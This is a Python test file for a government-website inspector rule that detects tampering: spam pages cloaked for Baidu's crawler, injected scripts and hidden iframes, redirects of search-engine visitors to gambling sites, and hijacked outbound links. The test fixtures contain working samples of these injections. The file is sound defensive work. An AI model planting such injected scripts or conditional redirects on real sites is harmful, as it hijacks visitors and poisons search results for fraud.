"""W-V1d tampering: cloaked spam, injected scripts, redirects off gov.cn and hijacked link
targets must be found; identical versions, allowed scripts and gov redirects must not."""

from __future__ import annotations

from dataclasses import replace

from govinspect.model import FetchResult
from govinspect.rules.base import SiteSnapshot
from govinspect.rules.engine import run_rules

from .builders import HOME, config, fetch, page, run, snapshot

CLEAN = ('<html><head><meta charset="utf-8"><title>嘉定区人民政府</title></head><body><div class="main">'
         "<ul><li>区政府召开常务会议研究部署春季农业生产</li><li>关于开展安全生产大检查的通知</li>"
         "<li>嘉定区2021年政府工作报告</li></ul></div><div class=\"footer\"><p>主办单位：上海市嘉定区人民政府办公室</p>"
         "</div>{extra}</body></html>")
SPAM = ('<html><head><meta charset="utf-8"><title>澳门新葡京娱乐城-官网-百家乐真人荷官</title>'
        '<meta name="keywords" content="澳门新葡京,娱乐城,体育投注"></head><body><a href="http://www.x8bet.com/">'
        "点击进入澳门新葡京娱乐城</a></body></html>")


def clean(extra: str = "") -> str:
    return CLEAN.replace("{extra}", extra)


def build(pages: dict[str, str], observations: dict[str, dict[str, str]] | None = None,
          links: dict[str, str] | None = None, finals: dict[tuple[str, str], str] | None = None) -> SiteSnapshot:
    bodies: dict[tuple[str, str], bytes] = {}
    models = []
    fetches = []
    for path, html in pages.items():
        url = HOME + path
        bodies[("page", url)] = html.encode()
        models.append(page(url, title="页面"))
        fetches.append(fetch(url))
    for url, html in (links or {}).items():
        bodies[("link", url)] = html.encode()
        fetches.append(replace(fetch(url, kind="link"), content_type="text/html; charset=utf-8"))
    snap = snapshot(homepage=models[0], pages=models, fetches=fetches)
    for kind, by_path in (observations or {}).items():
        obs = []
        for path, html in by_path.items():
            url = HOME + path
            bodies[(kind, url)] = html.encode()
            final = (finals or {}).get((kind, path), url)
            obs.append(replace(fetch(url, kind=kind), final_url=final, content_type="text/html; charset=utf-8"))
        snap.observations[kind] = obs

    def loader(f: FetchResult) -> bytes | None:
        return bodies.get((f.kind, f.url))

    snap.body_loader = loader
    return snap


def versions(browser: str, spider: str, referer: str) -> dict[str, dict[str, str]]:
    return {"cloak-browser": {"": browser}, "cloak-spider": {"": spider}, "cloak-referer": {"": referer}}


def test_spam_only_for_baiduspider_is_cloaking() -> None:
    findings = run("W-V1d", build({"": clean()}, versions(clean(), SPAM, clean())))
    assert len(findings) == 1
    f = findings[0]
    assert f.details["kind"] == "cloaking" and f.details["version"] == "cloak-spider"
    assert f.confidence == "high" and not f.review and f.severity == "veto"  # conclusive: a firm veto
    assert f.details["browser_title"] == "嘉定区人民政府" and "娱乐城" in f.details["version_title"]
    assert f.details["evidence"]["version"]["warc"] == "test.warc.gz"


def test_referer_redirect_off_gov_found() -> None:
    snap = build({"": clean()}, versions(clean(), clean(), clean()),
                 finals={("cloak-referer", ""): "http://www.x8bet.com/"})
    findings = run("W-V1d", snap)
    assert [f.details["kind"] for f in findings] == ["cloaked-redirect"]
    assert findings[0].details["version"] == "cloak-referer"
    # the destination's page (what this version holds) looked clean: an inspector judges it
    assert findings[0].review and findings[0].details["destination"] == "www.x8bet.com"


def test_content_differs_materially() -> None:
    other = ('<html><head><title>欢迎光临</title></head><body><p>本站正在维护，请稍后访问。这里是完全不同的内容，'
             "与原页面没有任何关系。</p></body></html>")
    findings = run("W-V1d", build({"": clean()}, versions(clean(), other, clean())))
    assert [f.details["kind"] for f in findings] == ["content-differs"]
    assert findings[0].confidence == "medium"


def test_same_versions_and_small_dynamic_parts_not_flagged() -> None:
    counter = clean('<p>您是第1024位访客</p>')
    assert run("W-V1d", build({"": clean()}, versions(clean(), counter, clean('<p>您是第1025位访客</p>')))) == []
    # spam in every version is W-V1c's business, not cloaking
    assert run("W-V1d", build({"": clean()}, versions(SPAM, SPAM, SPAM))) == []


def test_injected_scripts_and_iframes() -> None:
    extra = ('<script src="http://js.evil-stat.xyz/a.js"></script><iframe src="http://www.x8bet.com/" width=0 '
             'height=0></iframe><script src="https://hm.baidu.com/hm.js?abc"></script>'
             '<script src="http://dcs.conac.cn/js/33/000/0000/1.js"></script>'
             '<script src="/js/jquery.js"></script><script src="http://www.shanghai.gov.cn/js/x.js"></script>')
    findings = run("W-V1d", build({"": clean(extra)}))
    assert len(findings) == 1 and findings[0].details["kind"] == "injected-embed"
    assert {e["src"] for e in findings[0].details["embeds"]} == {"http://js.evil-stat.xyz/a.js",
                                                                  "http://www.x8bet.com/"}


def test_allowed_scripts_only_not_flagged() -> None:
    extra = ('<script src="https://hm.baidu.com/hm.js?abc"></script><script src="http://s4.cnzz.com/z.js"></script>'
             "<script id=\"_jiucuo_\" sitecode='3101140038' src='http://zfwzgl.www.gov.cn/exposure/jiucuo.js'></script>"
             '<script src="http://static.jiading.gov.cn/js/a.js"></script>')
    assert run("W-V1d", build({"": clean(extra)})) == []


def test_js_redirect_for_search_visitors() -> None:
    extra = ('<script>var r=document.referrer;if(r.indexOf("baidu")>=0||r.indexOf("sogou")>=0)'
             '{window.location.href="http://www.x8bet.com/?from=gov";}</script>')
    findings = run("W-V1d", build({"": clean(extra)}))
    assert len(findings) == 1 and findings[0].details["kind"] == "redirect"
    assert findings[0].details["redirects"][0]["conditional"] is True
    assert "仅对搜索引擎来访者" in findings[0].message


def test_meta_refresh_and_gov_redirects() -> None:
    bad = clean().replace("<head>", '<head><meta http-equiv="refresh" content="0;url=http://porn.example.com/">')
    assert [f.details["kind"] for f in run("W-V1d", build({"": bad}))] == ["redirect"]
    ok = clean('<script>location.href="http://www.shanghai.gov.cn/";</script>').replace(
        "<head>", '<head><meta http-equiv="refresh" content="5;url=/xxgk/">')
    assert run("W-V1d", build({"": ok})) == []


def test_hijacked_outbound_link() -> None:
    news = ('<html><head><title>市公安局严厉打击网络赌博</title></head><body><p>破获“澳门娱乐城”网络赌博案件，'
            "涉及百家乐等赌博平台。</p></body></html>")
    snap = build({"": clean()}, links={"http://www.old-partner.com/": SPAM, "http://www.police.example.cn/": news})
    findings = run("W-V1d", snap)
    assert [(f.url, f.details["kind"]) for f in findings] == [("http://www.old-partner.com/", "hijacked-link")]


def test_referer_redirect_to_a_spam_page_is_firm_and_named() -> None:
    snap = build({"": clean()}, versions(clean(), clean(), SPAM),
                 finals={("cloak-referer", ""): "http://www.x8bet.com/"})
    findings = run("W-V1d", snap)
    assert len(findings) == 1
    f = findings[0]
    assert not f.review and f.details["grade"] == "conclusive"
    assert "www.x8bet.com" in f.message and "赌博" in f.message


def test_cloaking_on_several_pages_is_one_finding() -> None:
    pages = {"": clean(), "a/1.html": clean(), "a/2.html": clean()}
    obs = {"cloak-browser": dict.fromkeys(pages, clean()), "cloak-spider": dict.fromkeys(pages, SPAM),
           "cloak-referer": dict.fromkeys(pages, clean())}
    findings = run_rules(build(pages, obs), config(), only=["W-V1d"]).findings
    assert len(findings) == 1 and findings[0].details["pages"]["count"] == 3


# a redirect only for visitors from a search engine, in a page template of another shape
SEARCH_JUMP = ('<script type="text/javascript">(function(){var s=document.referrer.toLowerCase();'
               'if(/baidu|sogou|so\\.com|sm\\.cn/.test(s)){window.location.replace("https://m.k8vip.cc/?c=gov");}})();'
               "</script>")


def test_script_redirect_to_a_spam_destination_is_firm() -> None:
    destination = ('<html><head><title>K8凯发 真人视讯 电子游艺 官网</title></head><body><a href="/reg">首存送'
                   "100%</a><p>体育下注 真人百家 24小时提款秒到</p></body></html>")
    snap = build({"": clean(SEARCH_JUMP)}, versions(clean(SEARCH_JUMP), clean(SEARCH_JUMP), clean(SEARCH_JUMP)))
    # the site check fetched the destination as a Baidu visitor: an observation of its own kind
    url = "https://m.k8vip.cc/?c=gov"
    snap.observations["cloak-destination"] = [replace(fetch(url, kind="cloak-destination"),
                                                      content_type="text/html; charset=utf-8")]
    loader = snap.body_loader
    assert loader is not None
    snap.body_loader = lambda f: destination.encode() if f.kind == "cloak-destination" else loader(f)
    findings = run_rules(snap, config(), only=["W-V1d"]).findings
    assert len(findings) == 1
    f = findings[0]
    assert f.details["kind"] == "redirect" and not f.review and f.confidence == "high"
    assert f.details["destination"] == "m.k8vip.cc" and "m.k8vip.cc" in f.message and "赌博" in f.message
    assert f.details["redirects"][0]["conditional"] is True
    assert f.details["evidence"]["destination"]["url"] == url
    assert f.details["seen_in"] == "page"  # also in the Baidu visitor's version: the same cause, one finding


def test_script_redirect_without_a_judged_destination_needs_review() -> None:
    findings = run("W-V1d", build({"": clean(SEARCH_JUMP)}))
    assert len(findings) == 1 and findings[0].review and "m.k8vip.cc" in findings[0].message
